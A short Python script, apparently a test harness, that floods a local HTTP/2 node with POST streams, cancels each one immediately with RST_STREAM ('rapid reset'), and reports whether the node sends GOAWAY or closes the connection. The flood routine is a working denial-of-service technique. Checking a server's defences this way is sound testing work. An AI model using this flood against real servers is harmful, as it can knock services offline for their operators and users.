"""HTTP/2 requests, each reset (RST_STREAM CANCEL) right after it is sent,
STREAMS of them on one TLS connection, until the node ends the connection.
Each is a POST of BODY to PATH.

Usage: h2_rapid_reset.py PORT STREAMS PATH BODY
"""
import json
import socket
import ssl
import struct
import sys
import time

port, streams, path, body = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4].encode()


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """HPACK: a literal without indexing, its name from the static table."""
    value = value.encode()
    assert index < 15 and len(value) < 127
    return bytes([index, len(value)]) + value


context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
context.set_alpn_protocols(["h2"])
stream = context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10))
if stream.selected_alpn_protocol() != "h2":
    print(json.dumps({"error": "the node did not offer h2"}))
    sys.exit(1)
# :method POST, :scheme https (indexed), :path, :authority, content-type
# (a literal whose name is static index 31: 0x0f then 31 - 15).
block = bytes([0x83, 0x87]) + literal(4, path) + literal(1, "lts") + bytes([0x0f, 0x10, 16]) + b"application/json"
stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
started = time.monotonic()
sent = 0
goaway = False
closed = False
stream.setblocking(False)
received = b""
for batch in range(0, streams, 50):
    out = b""
    for index in range(batch, min(streams, batch + 50)):
        sid = 2 * index + 1
        out += frame(1, 0x4, sid, block) + frame(0, 0x1, sid, body) + frame(3, 0, sid, struct.pack(">I", 8))
    try:
        stream.setblocking(True)
        stream.sendall(out)
        stream.setblocking(False)
        sent = min(streams, batch + 50)
        while True:
            data = stream.recv(65536)
            if data == b"":
                closed = True
                break
            received += data
    except ssl.SSLWantReadError:
        pass
    except OSError:
        closed = True
    # Frames from the node: look for GOAWAY (type 7).
    at = 0
    while at + 9 <= len(received):
        length = int.from_bytes(received[at:at + 3], "big")
        if at + 9 + length > len(received):
            break
        if received[at + 3] == 7:
            goaway = True
        at += 9 + length
    received = received[at:]
    if closed or goaway:
        break
print(json.dumps({"sent": sent, "goaway": goaway, "closedByNode": closed,
                  "seconds": round(time.monotonic() - started, 3)}))
